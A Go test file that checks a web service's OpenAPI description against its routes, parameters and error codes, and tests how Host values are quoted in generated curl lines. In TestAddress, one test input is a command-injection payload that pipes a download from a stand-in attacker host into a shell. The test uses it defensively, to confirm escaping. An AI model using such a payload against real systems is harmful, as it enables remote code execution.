package web

import (
	"fmt"
	"maps"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"go.yaml.in/yaml/v3"
)

// undescribed are the routes that web/openapi.yaml leaves out: pages for people with what they
// need, and dialects that others describe.
var undescribed = []string{
	"/", "/search", "/revise", "/print", "/b/{id}", "/t/{topic}", "/docs/api", "/docs/embed",
	"/embed.js", "/opensearch.xml", "/favicon.ico", "/static/{hash}/{name}",
	meiliMultiPath, meiliFacetPath,
}

// Each route stands in the description with just its methods, and nothing else stands there.
func TestDescriptionHasTheRoutes(t *testing.T) {
	d, err := readDescription()
	if err != nil {
		t.Fatal(err)
	}
	described := map[string][]string{}
	for _, p := range d.Paths {
		for _, op := range p.Value.Operations {
			described[p.Name] = append(described[p.Name], strings.ToUpper(op.Name))
		}
	}
	var routes []route // one a path
	for _, rt := range (&server{}).routes() {
		if i := slices.IndexFunc(routes, func(o route) bool { return o.path == rt.path }); i >= 0 {
			routes[i].methods = slices.Concat(routes[i].methods, rt.methods)
			continue
		}
		routes = append(routes, rt)
	}
	for _, rt := range routes {
		methods, ok := described[rt.path]
		delete(described, rt.path)
		left := slices.Contains(undescribed, rt.path)
		switch {
		case ok && left:
			t.Errorf("%s stands in web/openapi.yaml and in the list of routes that it leaves out: take it off the list", rt.path)
		case !ok && !left:
			t.Errorf("%s is a route and not in web/openapi.yaml: describe it there under paths, with an operationId, its parameters, "+
				"answers, errors and a curl line, and add requests for it to the table in openapi_answers_test.go; "+
				"or, where it is a page for people or a dialect of others, add it to undescribed", rt.path)
		case ok:
			want := slices.DeleteFunc(slices.Clone(rt.methods), func(m string) bool { return m == http.MethodHead || m == http.MethodOptions })
			slices.Sort(want)
			slices.Sort(methods)
			if diff := cmp.Diff(want, methods); diff != "" {
				t.Errorf("%s: the methods of the route, and those in web/openapi.yaml (-route +described):\n%s", rt.path, diff)
			}
		}
	}
	for path := range described {
		t.Errorf("%s is in web/openapi.yaml and no route: add it to routes.go, or take it out", path)
	}
}

// The description is whole: what it refers to is there, and each operation says what it is.
func TestDescriptionIsWhole(t *testing.T) {
	var file map[string]any
	if err := yaml.Unmarshal([]byte(descriptionFile), &file); err != nil {
		t.Fatal(err)
	}
	if file["openapi"] != "3.1.0" {
		t.Errorf("openapi: %v", file["openapi"])
	}
	used := map[string]bool{}
	eachReference(file, func(ref string) {
		used[ref] = true
		var at any = file
		for part := range strings.SplitSeq(strings.TrimPrefix(ref, "#/"), "/") {
			m, _ := at.(map[string]any)
			at = m[part]
		}
		if at == nil {
			t.Errorf("%s is nowhere", ref)
		}
	})
	for kind, all := range file["components"].(map[string]any) {
		for name := range all.(map[string]any) {
			if ref := "#/components/" + kind + "/" + name; !used[ref] && kind != "securitySchemes" {
				t.Errorf("nothing refers to %s", ref)
			}
		}
	}
	d, err := readDescription()
	if err != nil {
		t.Fatal(err)
	}
	var tags []string
	for _, tag := range d.Tags {
		tags = append(tags, tag.Name)
	}
	ids := map[string]bool{}
	for _, p := range d.Paths {
		for _, op := range p.Value.Operations {
			name := op.Name + " " + p.Name
			o := op.Value
			if o.ID == "" || ids[o.ID] || o.Summary == "" || o.Description == "" || len(o.Samples) == 0 {
				t.Errorf("%s wants an operationId of its own, a summary, a description and an x-codeSample", name)
			}
			ids[o.ID] = true
			if len(o.Tags) != 1 || !slices.Contains(tags, o.Tags[0]) {
				t.Errorf("%s: tags %q, want one of %q", name, o.Tags, tags)
			}
			for part := range strings.SplitSeq(p.Name, "/") {
				if strings.HasPrefix(part, "{") && !slices.ContainsFunc(o.Parameters, func(q describedParameter) bool {
					return q.In == "path" && q.Required && "{"+q.Name+"}" == part
				}) {
					t.Errorf("%s: the parameter %s is not described", name, part)
				}
			}
			for _, q := range o.Parameters {
				if q.Name == "" || q.Description == "" || len(q.Schema.Type) == 0 && q.Schema.Ref == "" {
					t.Errorf("%s: a parameter wants a name, a description and a type: %+v", name, q)
				}
			}
		}
	}
	for _, s := range d.Components.Schemas {
		if s.Value.Description == "" {
			t.Errorf("schema %s has no description", s.Name)
		}
	}
}

// eachReference calls do with each $ref in v.
func eachReference(v any, do func(string)) {
	switch v := v.(type) {
	case map[string]any:
		for name, value := range v {
			if ref, ok := value.(string); ok && name == "$ref" {
				do(ref)
				continue
			}
			eachReference(value, do)
		}
	case []any:
		for _, value := range v {
			eachReference(value, do)
		}
	}
}

// The parameters that are described are those that are read.
func TestDescriptionHasTheParameters(t *testing.T) {
	d, err := readDescription()
	if err != nil {
		t.Fatal(err)
	}
	withFormat := append([]string{"format"}, knownParameters...)
	want := map[string][]string{
		"search": knownParameters, "getFacets": knownParameters, "getFeed": knownParameters, "exportBriefs": withFormat,
		"suggest": suggestParameters, "getSimilarBriefs": {"n"}, "getTopic": {"page"},
	}
	for _, p := range d.Paths {
		for _, op := range p.Value.Operations {
			var got []string
			for _, q := range op.Value.Parameters {
				if q.In == "query" {
					got = append(got, q.Name)
				}
			}
			if diff := cmp.Diff(sorted(want[op.Value.ID]), sorted(got)); diff != "" {
				t.Errorf("parameters of %s (-read +described):\n%s", op.Value.ID, diff)
			}
		}
	}
	var body []string
	for _, p := range d.schema("SearchRequest").Properties {
		body = append(body, p.Name)
	}
	if diff := cmp.Diff(sorted(knownParameters), sorted(body)); diff != "" {
		t.Errorf("names in the body of a search (-read +described):\n%s", diff)
	}
}

// sorted returns names in order, and none as none.
func sorted(names []string) []string { return slices.Sorted(slices.Values(names)) }

// The codes of errors are those there are, each with its status among the errors of an operation.
func TestDescriptionHasTheCodes(t *testing.T) {
	d, err := readDescription()
	if err != nil {
		t.Fatal(err)
	}
	var codes, enum []string
	for _, c := range d.codes() {
		codes = append(codes, c.Code)
		if c.Description == "" {
			t.Errorf("x-codes says nothing of %s", c.Code)
		}
	}
	for _, p := range d.schema("Problem").Properties {
		if p.Name == "code" {
			enum = p.Value.Enum
		}
	}
	want := slices.Sorted(maps.Keys(titles))
	if diff := cmp.Diff(want, sorted(codes)); diff != "" {
		t.Errorf("the titles in errors.go, and x-codes of Problem in openapi.yaml (-errors.go +x-codes):\n%s", diff)
	}
	if diff := cmp.Diff(want, sorted(enum)); diff != "" {
		t.Errorf("the titles in errors.go, and the values of Problem's code in openapi.yaml (-errors.go +enum):\n%s", diff)
	}
	answered := map[string][]string{} // the operations by status
	for _, p := range d.Paths {
		for _, op := range p.Value.Operations {
			for _, r := range op.Value.Responses {
				answered[r.Name] = append(answered[r.Name], op.Value.ID)
			}
		}
	}
	for _, c := range d.codes() {
		ids := answered[fmt.Sprint(c.Status)]
		if len(ids) == 0 {
			t.Errorf("%s is a %d, which no operation answers", c.Code, c.Status)
		}
		for _, id := range c.Operations {
			if !slices.Contains(ids, id) {
				t.Errorf("%s is a %d of %s, which does not answer so", c.Code, c.Status, id)
			}
		}
	}
}

// What stands in a host's place in a command line stays between its quotes.
func TestAddress(t *testing.T) {
	s := &server{}
	for host, want := range map[string]string{
		"briefs.example:8080":     "http://briefs.example:8080",
		"a'b":                     "http://a%27b",
		"a\"b\\c\nd":              "http://a%22b%5Ccd",
		"":                        described,
		"[::1]:8080":              "http://[::1]:8080",
		"x';curl evil.example|sh": "http://x%27;curl evil.example|sh",
	} {
		if got := s.address(&http.Request{Host: host}); got != want {
			t.Errorf("host %q: %q, want %q", host, got, want)
		}
	}
}

// Each operation has the bodies that it takes, text as text, and the errors that are its own.
func TestDocsOperations(t *testing.T) {
	d, err := readDescription()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]docOperation{}
	for _, g := range d.groups(described) {
		for _, o := range g.Operations {
			got[o.ID] = o
		}
	}
	if diff := cmp.Diff([]string{"invalid_parameter", "key_exposed", "method_not_allowed", "other_host"}, got["getOpenapi"].Errors); diff != "" {
		t.Errorf("errors of the description (-want +got):\n%s", diff)
	}
	for code, want := range map[string]bool{"no_lines": true, "too_many_lines": true, "no_text": false, "invalid_id": false} {
		if slices.Contains(got["pushBriefs"].Errors, code) != want {
			t.Errorf("%s of a bulk: want %t", code, want)
		}
	}
	var kinds []string
	for _, b := range got["putBrief"].Bodies {
		kinds = append(kinds, b.Kind)
	}
	if diff := cmp.Diff([]string{"application/json", "text/markdown", "text/html", "text/plain"}, kinds); diff != "" {
		t.Errorf("bodies of a brief (-want +got):\n%s", diff)
	}
	if b := got["pushBriefs"].Bodies; len(b) != 1 || !strings.HasPrefix(b[0].Example, `{"id": "kaiga-2"`) || strings.Count(b[0].Example, "\n") != 1 {
		t.Errorf("bodies of a bulk: %+v", b)
	}
}
